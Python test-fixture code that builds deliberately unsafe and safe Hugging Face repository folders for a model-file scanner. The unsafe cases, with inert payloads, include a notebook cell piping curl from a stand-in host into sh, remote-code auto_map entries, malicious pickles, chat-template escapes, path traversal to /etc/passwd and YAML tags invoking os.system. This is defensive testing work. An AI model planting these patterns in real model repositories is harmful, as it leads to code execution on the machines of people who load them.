"""Hugging Face repositories as folders, good and bad. The verdict is about the folder."""

from __future__ import annotations

import json

from .assembler import Asm, inert_call, inert_pickle
from .case import Content, Executable, Link, Shelf
from .templates_bad import ESCAPES
from .templates_good import CHATML, TEMPLATES
from .tensors import model_gguf, plain_safetensors
from .torch_format import payload_pickle, torch_zip

BAD_PICKLE = torch_zip(payload_pickle(inert_call(Asm(2))), {})
PAYLOAD = b"import os\n\n\nclass WaagModel:\n    pass\n\n\nos.system('echo waag-inert')\n"
README = b"""---
license: apache-2.0
language: en
library_name: transformers
tags: [text-generation]
---

# A small model

Load it with `AutoModel.from_pretrained`. Never call `eval()` on what it writes; `model.eval()` is fine.
"""
CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 3, "num_hidden_layers": 1, "vocab_size": 5,
          "torch_dtype": "float32", "transformers_version": "4.44.0", "use_cache": True}
TOKENIZER = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [{"id": 0, "content": "<unk>", "special": True}],
             "normalizer": {"type": "NFC"}, "pre_tokenizer": {"type": "ByteLevel"}, "post_processor": None, "decoder": {"type": "ByteLevel"},
             "model": {"type": "BPE", "vocab": {"<unk>": 0, "hello": 1, "eval": 2, "os.system": 3, "__import__": 4}, "merges": []}}
TOKENIZER_CONFIG = {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 2048, "bos_token": "<s>", "eos_token": "</s>", "chat_template": CHATML}


def js(value: object) -> bytes:
    return (json.dumps(value, indent=2, ensure_ascii=False) + "\n").encode()


def base(**config: object) -> dict[str, bytes | Link | Executable]:
    return {
        "README.md": README,
        "config.json": js(CONFIG | config),
        "generation_config.json": js({"bos_token_id": 1, "eos_token_id": 2, "do_sample": True, "temperature": 0.6}),
        "model.safetensors": plain_safetensors({"format": "pt"}),
        "tokenizer.json": js(TOKENIZER),
        "tokenizer_config.json": js(TOKENIZER_CONFIG),
        "special_tokens_map.json": js({"bos_token": "<s>", "eos_token": "</s>"}),
    }


def bad() -> Shelf:
    shelf = Shelf("huggingface", source="construction, after transformers' and diffusers' loading rules")

    def add(id: str, why: str, files: dict, expect: str = "not-allow", remove: tuple[str, ...] = (), config: dict | None = None) -> None:
        content: Content = {k: v for k, v in (base(**(config or {})) | files).items() if k not in remove}
        shelf.bad(id, content, why, name="repo", expect=expect)

    remote = {"auto_map": {"AutoModelForCausalLM": "modeling_waag.WaagModel"}}
    add("auto-map", "config.json maps AutoModel to the repository's Python", {"modeling_waag.py": PAYLOAD}, "deny", config=remote)
    add("auto-map-elsewhere", "auto_map points to another repository", {}, config={"auto_map": {"AutoModel": "example-invalid/other--modeling.Model"}})
    for key in ("attn_implementation", "_attn_implementation", "_attn_implementation_internal"):
        add(f"kernel-{key.strip('_').replace('_', '-')}{'-hidden' * key.startswith('_')}", f"{key} names a repository, whose kernel is fetched and run", {}, "deny", config={key: "evil-org/kernel"})
    add("kernel-by-part", "attn_implementation names a repository for one part", {}, "deny", config={"attn_implementation": {"": "evil-org/kernel@main:fn"}})
    add("custom-generate-elsewhere", "generation_config names a repository of code", {"generation_config.json": js({"custom_generate": "evil-org/generate"})}, "deny")
    add("auto-map-no-file", "auto_map names Python that is not there yet", {}, config=remote)
    add("auto-map-tokenizer", "the tokenizer's auto_map", {"tokenization_waag.py": PAYLOAD, "tokenizer_config.json":
        js(TOKENIZER_CONFIG | {"auto_map": {"AutoTokenizer": ["tokenization_waag.WaagTokenizer", None]}})}, "deny")
    add("auto-map-processor", "the processor's auto_map", {"processing_waag.py": PAYLOAD, "preprocessor_config.json":
        js({"auto_map": {"AutoProcessor": "processing_waag.WaagProcessor"}})}, "deny")
    add("auto-map-nested", "auto_map in a sub-configuration", {}, config={"text_config": {"auto_map": {"AutoConfig": "x.Y"}}})
    add("auto-map-escaped", "auto_map with its name escaped", {"config.json": b'{"model_type":"llama","\\u0061uto_map":{"AutoModel":"modeling_waag.WaagModel"}}',
        "modeling_waag.py": PAYLOAD}, "deny")
    add("auto-map-duplicate", "the second auto_map counts", {"config.json":
        b'{"auto_map":{},"model_type":"llama","auto_map":{"AutoModel":"modeling_waag.WaagModel"}}', "modeling_waag.py": PAYLOAD}, "deny")
    add("trust-remote-code", "a configuration that asks to be trusted", {}, config={"trust_remote_code": True})
    add("custom-pipelines", "a pipeline implemented by the repository", {"pipeline.py": PAYLOAD},
        config={"custom_pipelines": {"x": {"impl": "pipeline.WaagModel", "pt": ["AutoModel"]}}}, expect="deny")
    add("diffusers-pipeline", "a diffusers pipeline of the repository's own class", {"model_index.json":
        js({"_class_name": ["pipeline", "WaagModel"], "unet": ["unet.my_unet", "WaagModel"]}), "pipeline.py": PAYLOAD}, "deny")
    add("custom-generate", "a generate of the repository's own", {"custom_generate/generate.py": PAYLOAD}, "deny")
    add("sentence-transformers-module", "a module type of the repository's own", {"modules.json":
        js([{"idx": 0, "name": "0", "path": "", "type": "waag_module.WaagModel"}]), "waag_module.py": PAYLOAD}, "deny")
    add("python-only", "Python with a payload that nothing refers to", {"utils.py": PAYLOAD})
    add("python-hidden", "Python in a hidden folder", {".cache/x.py": PAYLOAD})
    add("dataset-script", "a dataset's loading script", {"repo.py": b"import datasets\n" + PAYLOAD})
    add("handler", "an inference endpoint's handler", {"handler.py": PAYLOAD})
    add("requirements", "requirements from elsewhere", {"requirements.txt": b"--extra-index-url http://example.invalid/simple\nwaag-inert\n"})
    add("setup-py", "a setup.py that runs on install", {"setup.py": PAYLOAD})
    add("notebook", "a notebook with a shell line", {"demo.ipynb": js({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
        "source": ["!curl -s http://example.invalid/x | sh\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
    add("tokenizer-template", "a bad template in tokenizer_config.json", {"tokenizer_config.json":
        js(TOKENIZER_CONFIG | {"chat_template": ESCAPES["cycler-globals"]})}, "deny")
    add("chat-template-jinja", "a bad chat_template.jinja", {"chat_template.jinja": ESCAPES["lipsum-globals"].encode()}, "deny")
    add("additional-chat-templates", "a bad template among the additional ones", {"chat_template.jinja": CHATML.encode(),
        "additional_chat_templates/tool_use.jinja": ESCAPES["attr-filter-chain"].encode()}, "deny")
    add("template-list", "a bad template among the named ones", {"tokenizer_config.json": js(TOKENIZER_CONFIG | {"chat_template":
        [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": ESCAPES["self-init"]}]})}, "deny")
    add("bad-gguf", "a GGUF with a bad template beside good weights", {"model-q8.gguf": model_gguf(ESCAPES["lipsum-globals"])}, "deny")
    add("bad-bin", "a bad pytorch_model.bin beside good safetensors", {"pytorch_model.bin": BAD_PICKLE}, "deny")
    add("bad-bin-only", "a bad pytorch_model.bin, no safetensors", {"pytorch_model.bin": BAD_PICKLE}, "deny", ("model.safetensors",))
    add("bad-optimizer", "a bad optimizer.pt", {"checkpoint-10/optimizer.pt": BAD_PICKLE}, "deny")
    add("bad-training-args", "a bad training_args.bin", {"training_args.bin": inert_pickle()}, "deny")
    add("bad-scheduler-hidden", "a bad file in a hidden folder", {".old/scheduler.pt": BAD_PICKLE}, "deny")
    add("bad-rng-state", "a bad rng_state.pth", {"rng_state.pth": inert_pickle(4)}, "deny")
    add("bad-pickle-no-suffix", "a pickle called weights", {"weights": inert_pickle()}, "deny")
    add("bad-in-lfs-name", "a pickle called .gitattributes", {".gitattributes": inert_pickle()}, "deny")
    shard = "model-00001-of-00002.safetensors"

    def index(name: str) -> dict[str, bytes]:
        return {shard: plain_safetensors({"format": "pt"}), "model.safetensors.index.json":
                js({"metadata": {"total_size": 96}, "weight_map": {"weight": shard, "bias": name}})}

    add("index-outside", "the index names a file outside the folder", index("../../etc/passwd"), remove=("model.safetensors",))
    add("index-absolute", "the index names an absolute path", index("/nonexistent/waag-inert.safetensors"), remove=("model.safetensors",))
    add("index-url", "the index names an address", index("http://example.invalid/x.safetensors"), remove=("model.safetensors",))
    add("index-missing", "the index names a shard that is not there", index("model-00002-of-00002.safetensors"), remove=("model.safetensors",))
    add("index-pickle", "the index mixes in a pickle", index("pytorch_model.bin") | {"pytorch_model.bin": BAD_PICKLE}, "deny", ("model.safetensors",))
    add("index-wrong-tensor", "the index names a tensor the shard does not hold", {shard: plain_safetensors(tensors={"a": [4]}),
        "model.safetensors.index.json": js({"weight_map": {"weight": shard}})}, remove=("model.safetensors",))
    add("symlink-out", "a link out of the folder", {"weights.bin": Link("../../../../../../nonexistent/waag-inert")})
    add("symlink-absolute", "a link to an absolute path", {"vocab.txt": Link("/nonexistent/waag-inert")})
    add("symlink-folder-out", "a folder that is a link out", {"checkpoint": Link("../..")})
    add("symlink-loop", "a link to itself", {"loop": Link("loop")})
    add("adapter-base-path", "an adapter whose base model is a path of the machine", {"adapter_config.json":
        js({"peft_type": "LORA", "base_model_name_or_path": "/nonexistent/waag-inert", "auto_mapping": None, "r": 8})})
    add("adapter-base-elsewhere", "an adapter whose base model is an address", {"adapter_config.json":
        js({"peft_type": "LORA", "base_model_name_or_path": "http://example.invalid/model", "auto_mapping": None})})
    add("adapter-auto-mapping", "an adapter that imports a class by name", {"adapter_config.json":
        js({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "base_model_name_or_path": "example/base"})}, "deny")
    add("executable", "a program", {"tools/run": Executable(b"\x7fELF\x02\x01\x01" + bytes(120))}, "deny")
    add("windows-program", "a Windows program", {"setup.exe": b"MZ" + bytes(200)}, "deny")
    add("shared-library", "a shared library as custom operators", {"ops/waag.so": b"\x7fELF\x02\x01\x01" + bytes(120)}, "deny")
    add("name-terminal-escape", "a file name with a terminal escape", {"ok\x1b[2K\x1b[1Gclean.bin": inert_pickle()}, "deny")
    add("name-rtl", "a file name with a right-to-left override", {"model\u202esrotnesetafas.bin": inert_pickle()}, "deny")
    add("name-newline", "a file name with a line end", {"a\nb.bin": inert_pickle()}, "deny")
    add("config-target", "a configuration that names a callable", {}, "not-allow", config={"scheduler": {"_target_": "os.system", "_args_": ["true"]}})
    add("config-yaml-object", "a YAML with a Python tag", {"hparams.yaml": b"a: !!python/object/apply:os.system ['true']\n"}, "deny")
    add("tokenizer-json-is-pickle", "a tokenizer.json that is a pickle", {"tokenizer.json": inert_pickle()}, "deny")
    return shelf


def good() -> Shelf:
    shelf = Shelf("good-huggingface")

    def add(id: str, why: str, files: dict | None = None, remove: tuple[str, ...] = (), config: dict | None = None) -> None:
        content: Content = {k: v for k, v in (base(**(config or {})) | (files or {})).items() if k not in remove}
        shelf.good(id, content, why, name="repo")

    add("plain", "an ordinary repository")
    add("attention", "the usual ways to compute attention", config={"attn_implementation": "flash_attention_2", "_attn_implementation": "sdpa", "text_config": {"_attn_implementation_autoset": True}})
    add("name-or-path", "the trainer's path is left in _name_or_path", config={"_name_or_path": "/home/user/models/llama"})
    add("encoder", "another architecture", config={"model_type": "bert", "architectures": ["BertModel"]})
    add("quantized", "quantisation settings", config={"quantization_config": {"quant_method": "gptq", "bits": 4, "group_size": 128}})
    for id in ("llama-3-tools", "mistral-tools", "qwen", "deepseek", "command-r"):
        add(f"template-{id}", f"the {id} chat template", {"tokenizer_config.json": js(TOKENIZER_CONFIG | {"chat_template": TEMPLATES[id]})})
    add("template-file", "a chat_template.jinja", {"chat_template.jinja": TEMPLATES["qwen-thinking"].encode()})
    add("template-list", "two named templates", {"tokenizer_config.json": js(TOKENIZER_CONFIG | {"chat_template":
        [{"name": "default", "template": CHATML}, {"name": "rag", "template": TEMPLATES["command-r"]}]})})
    one, two = "model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"
    add("sharded", "two shards and their index", {one: plain_safetensors({"format": "pt"}, {"weight": [4, 3]}), two: plain_safetensors({"format": "pt"}, {"bias": [4]}),
        "model.safetensors.index.json": js({"metadata": {"total_size": 64}, "weight_map": {"weight": one, "bias": two}})}, ("model.safetensors",))
    add("adapter", "a LoRA adapter", {"adapter_config.json": js({"peft_type": "LORA", "auto_mapping": None, "base_model_name_or_path": "example/base-model",
        "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"]}), "adapter_model.safetensors": plain_safetensors({"format": "pt"})},
        ("model.safetensors", "config.json"))
    add("gguf", "a GGUF repository", {"model-f32.gguf": model_gguf(CHATML)}, ("model.safetensors",))
    add("torch-bin", "an ordinary pytorch_model.bin", {"pytorch_model.bin": torch_zip()}, ("model.safetensors",))
    add("sentence-transformers", "a sentence-transformers model", {"modules.json": js([{"idx": 0, "name": "0", "path": "", "type":
        "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]),
        "1_Pooling/config.json": js({"word_embedding_dimension": 3, "pooling_mode_mean_tokens": True})})
    add("diffusers", "a diffusers pipeline", {"model_index.json": js({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"]}), "unet/config.json": js({"_class_name": "UNet2DConditionModel"}),
        "unet/diffusion_pytorch_model.safetensors": plain_safetensors({"format": "pt"})}, ("model.safetensors",))
    add("words", "words that frighten scanners, in prose and vocabulary", {"README.md": README + b"\nDo not use `eval`, `exec`, `os.system`, `subprocess.Popen` "
        b"or `__import__('os')`.\nSet `trust_remote_code=False`.\n", "vocab.txt": b"eval\nexec\nos.system\n__import__\nsubprocess\n__class__\n"})
    add("git-files", "the files git leaves", {".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n", ".gitignore": b"__pycache__/\n"})
    add("internal-symlink", "a link inside the folder, as the hub's cache makes them", {"blobs/abc": plain_safetensors({"format": "pt"}),
        "model.safetensors": Link("blobs/abc")})
    return shelf
